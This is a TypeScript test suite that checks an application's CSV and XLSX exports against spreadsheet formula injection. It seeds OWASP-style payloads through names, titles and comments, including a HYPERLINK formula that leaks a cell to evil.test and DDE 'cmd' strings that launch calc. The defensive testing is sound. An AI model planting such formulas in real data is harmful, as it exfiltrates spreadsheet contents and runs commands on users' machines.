import { readCsv } from '@essaim/core';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppInstance } from '../src/app-instance.ts';
import type { DbHandle } from '../src/db/connect.ts';
import {
  createOrg,
  ORIGIN,
  PASSWORD,
  setupAdmin,
  type TestClient,
  testClient,
  uniqueEmail,
} from './factories.ts';
import { liveSocket } from './live-socket.ts';
import { fillParams } from './route-fixtures.ts';
import { buildTestApp } from './test-app.ts';
import { testDialects } from './test-db.ts';

/** What a participant without an account, or any member, can type (OWASP CSV injection payloads). */
const PAYLOADS = {
  name: '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez ici")',
  collective: "+SUM(1+1)*cmd|' /C calc'!A0",
  activity: '@SUM(1+1)',
  item: "-2+3+cmd|' /C calc'!A0",
  statement: '=1+1',
  tab: '\t=1+1',
} as const;

const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e-?\d+)?$/;

/**
 * Issue 12 §7: every route that returns CSV (found in the route table, like the tenant-isolation
 * suite) is called over data holding formula payloads; no cell may start a formula, and each payload
 * that reached a file appears there guarded.
 */
describe.each(testDialects)('CSV exports on $name', (dialect) => {
  let app: AppInstance;
  let handle: DbHandle;
  let owner: TestClient;
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    handle = await dialect.open();
    app = await buildTestApp(handle);
    const url = await app.listen({ port: 0, host: '127.0.0.1' });
    owner = (await setupAdmin(app)).client;
    ids.orgId = await createOrg(owner, 'CSV Org');

    // A member whose display name is a formula (audit export: actor column).
    const inv = await owner.post(`/api/orgs/${ids.orgId}/invitations`, {
      email: uniqueEmail(),
      role: 'member',
    });
    const token = inv.json<{ link: string }>().link.split('/invite/')[1]!;
    const accepted = await testClient(app).post(`/api/invitations/${token}/accept`, {
      displayName: PAYLOADS.name,
      password: PASSWORD,
    });
    expect(accepted.status).toBe(200);

    // A closed campaign over a collective named with a formula (campaign export: cut labels).
    const collective = await owner.post(`/api/orgs/${ids.orgId}/collectives`, {
      name: PAYLOADS.collective,
      kind: 'team',
    });
    expect(collective.status, JSON.stringify(collective.body)).toBe(200);
    const eng = await owner.post(`/api/orgs/${ids.orgId}/engagements`, {
      title: 'Engagement',
      request: 'Request',
    });
    ids.engagementId = eng.json<{ id: string }>().id;
    const campaign = await owner.post(
      `/api/orgs/${ids.orgId}/engagements/${eng.json<{ id: string }>().id}/campaigns`,
      {
        title: 'C',
        instrumentRef: 'essaim-ic-pulse',
        collectiveIds: [collective.json<{ id: string }>().id],
        hasSharedLink: true,
      },
    );
    expect(campaign.status, JSON.stringify(campaign.body)).toBe(200);
    ids.campaignId = campaign.json<{ id: string }>().id;
    expect((await owner.post(`/api/orgs/${ids.orgId}/campaigns/${ids.campaignId}/launch`)).status).toBe(200);
    expect((await owner.post(`/api/orgs/${ids.orgId}/campaigns/${ids.campaignId}/close`)).status).toBe(200);

    // A workshop whose activity title and items are formulas (workshop export).
    const w = await owner.post(`/api/orgs/${ids.orgId}/workshops`, { title: 'W' });
    ids.workshopId = w.json<{ id: string }>().id;
    const f = await liveSocket(url, owner.cookie ?? '');
    f.send({ type: 'live.resume', workshopId: ids.workshopId, lastSeq: 0 });
    await f.waitFor((m) => m.type === 'live.snapshot' || m.type === 'live.events');
    const add = await f.command(ids.workshopId, {
      type: 'activity.add',
      activity: {
        type: 'dotVote',
        title: PAYLOADS.activity,
        config: {
          items: [
            { id: 'a', label: PAYLOADS.item },
            { id: 'b', label: PAYLOADS.tab },
          ],
          dotsPerParticipant: 2,
          maxPerItem: 2,
        },
      },
    });
    expect(add.type).toBe('live.ack');
    f.close();

    // A conversation where a participant without an account submits a formula (Polis comments.csv).
    const conv = await owner.post(`/api/orgs/${ids.orgId}/conversations`, { title: 'Conv' });
    const { id: conversationId, joinCode } = conv.json<{ id: string; joinCode: string }>();
    ids.conversationId = conversationId;
    const joined = await app.inject({
      method: 'POST',
      url: `/api/conversations/join/${joinCode}/participants`,
      payload: {},
      headers: { origin: ORIGIN },
    });
    const participantToken = (JSON.parse(joined.body) as { token: string }).token;
    const said = await app.inject({
      method: 'POST',
      url: `/api/conversations/join/${joinCode}/statements`,
      payload: { text: PAYLOADS.statement },
      headers: { origin: ORIGIN, 'x-participant-token': participantToken },
    });
    expect(said.statusCode).toBe(200);
  });
  afterAll(async () => {
    await app.close();
    await handle.close();
  });

  it('guards every cell of every CSV route', async () => {
    const acceptsCsv = (q: unknown) =>
      (q as { safeParse?: (v: unknown) => { success: boolean } } | undefined)?.safeParse?.({ format: 'csv' })
        .success === true &&
      (q as { safeParse: (v: unknown) => { success: boolean } }).safeParse({ format: 'no-such-format' })
        .success === false;
    const candidates = app.routeTable.filter(
      (r) => r.method === 'GET' && (r.url.endsWith('.csv') || acceptsCsv(r.schema?.querystring)),
    );
    const covered: string[] = [];
    const failures: string[] = [];
    const seen = new Set<string>();
    for (const route of candidates) {
      const url = fillParams(route.url, ids);
      const r = await owner.get(route.url.endsWith('.csv') ? url : `${url}?format=csv`);
      const type = String(r.headers['content-type'] ?? '');
      if (!type.startsWith('text/csv')) {
        continue; // a JSON-only export
      }
      covered.push(route.url);
      expect(r.status, route.url).toBe(200);
      for (const record of readCsv(String(r.body), { trim: false }).records) {
        for (const cell of record.fields) {
          if (FORMULA.test(cell) && !NUMBER.test(cell)) {
            failures.push(`${route.url}: formula cell ${JSON.stringify(cell)}`);
          }
          for (const payload of Object.values(PAYLOADS)) {
            if (cell === `'${payload}` || cell.includes(`'${payload}`)) {
              seen.add(payload);
            }
          }
        }
      }
    }
    console.log(`CSV routes covered: ${covered.join(', ')}`);
    expect(failures).toEqual([]);
    expect(covered).toEqual(
      expect.arrayContaining([
        '/api/orgs/:orgId/audit.csv',
        '/api/orgs/:orgId/campaigns/:campaignId/export.csv',
        '/api/orgs/:orgId/workshops/:workshopId/export',
        '/api/orgs/:orgId/conversations/:conversationId/export/comments.csv',
        '/api/orgs/:orgId/conversations/:conversationId/export/votes.csv',
      ]),
    );
    // Each payload reached some file, guarded (so the sweep really exercised the writer).
    expect([...seen].sort()).toEqual(Object.values(PAYLOADS).sort());
  });

  it('gives every CSV route an XLSX sibling with the same rows and no formula', async () => {
    /** Spreadsheets laid out on purpose (their own writer, live formulas the plan's totals use). */
    const OWN_LAYOUT = new Set(['/api/orgs/:orgId/engagements/:engagementId/plan/investment.csv']);
    const acceptsCsv = (q: unknown) =>
      (q as { safeParse?: (v: unknown) => { success: boolean } } | undefined)?.safeParse?.({ format: 'csv' })
        .success === true &&
      (q as { safeParse: (v: unknown) => { success: boolean } }).safeParse({ format: 'no-such-format' })
        .success === false;
    const csvRoutes = app.routeTable.filter(
      (r) => r.method === 'GET' && (r.url.endsWith('.csv') || acceptsCsv(r.schema?.querystring)),
    );
    const compared: string[] = [];
    const failures: string[] = [];
    for (const route of csvRoutes) {
      const url = fillParams(route.url, ids);
      const csv = await owner.get(route.url.endsWith('.csv') ? url : `${url}?format=csv`);
      if (!String(csv.headers['content-type'] ?? '').startsWith('text/csv')) {
        continue;
      }
      const xlsxUrl = route.url.endsWith('.csv') ? url.replace(/\.csv$/, '.xlsx') : `${url}?format=xlsx`;
      const r = await app.inject({ method: 'GET', url: xlsxUrl, headers: { cookie: owner.cookie ?? '' } });
      if (r.statusCode !== 200 || !String(r.headers['content-type']).includes('spreadsheetml')) {
        failures.push(`${route.url}: no XLSX sibling (${r.statusCode} ${r.headers['content-type']})`);
        continue;
      }
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
      if (OWN_LAYOUT.has(route.url)) {
        continue; // it parses; its layout is its own
      }
      const sheet = workbook.worksheets[0]!;
      const rows: string[][] = [];
      sheet.eachRow({ includeEmpty: true }, (row) => {
        const cells: string[] = [];
        for (let c = 1; c <= row.cellCount; c++) {
          const cell = row.getCell(c);
          if (cell.type === ExcelJS.ValueType.Formula) {
            failures.push(`${route.url}: formula cell ${cell.address}`);
          }
          cells.push(cell.value === null || cell.value === undefined ? '' : String(cell.value));
        }
        rows.push(cells);
      });
      const expected = readCsv(String(csv.body), { trim: false }).records.map((rec) => rec.fields);
      // Trailing empty cells are not stored in XLSX: compare rows without them.
      const trimEnd = (row: string[]) => {
        const out = [...row];
        while (out.length > 0 && out[out.length - 1] === '') {
          out.pop();
        }
        return out;
      };
      // Exporting the audit log is itself audited: the export between the two requests is left aside.
      const stable = (all: string[][]) => all.filter((row) => !row.includes('audit.exported')).map(trimEnd);
      expect(stable(rows), route.url).toEqual(stable(expected));
      compared.push(route.url);
    }
    expect(failures).toEqual([]);
    expect(compared).toEqual(
      expect.arrayContaining([
        '/api/orgs/:orgId/audit.csv',
        '/api/orgs/:orgId/campaigns/:campaignId/export.csv',
        '/api/orgs/:orgId/workshops/:workshopId/export',
        '/api/orgs/:orgId/conversations/:conversationId/export/comments.csv',
        '/api/orgs/:orgId/conversations/:conversationId/export/votes.csv',
        '/api/orgs/:orgId/decisions/export',
      ]),
    );
  });
});
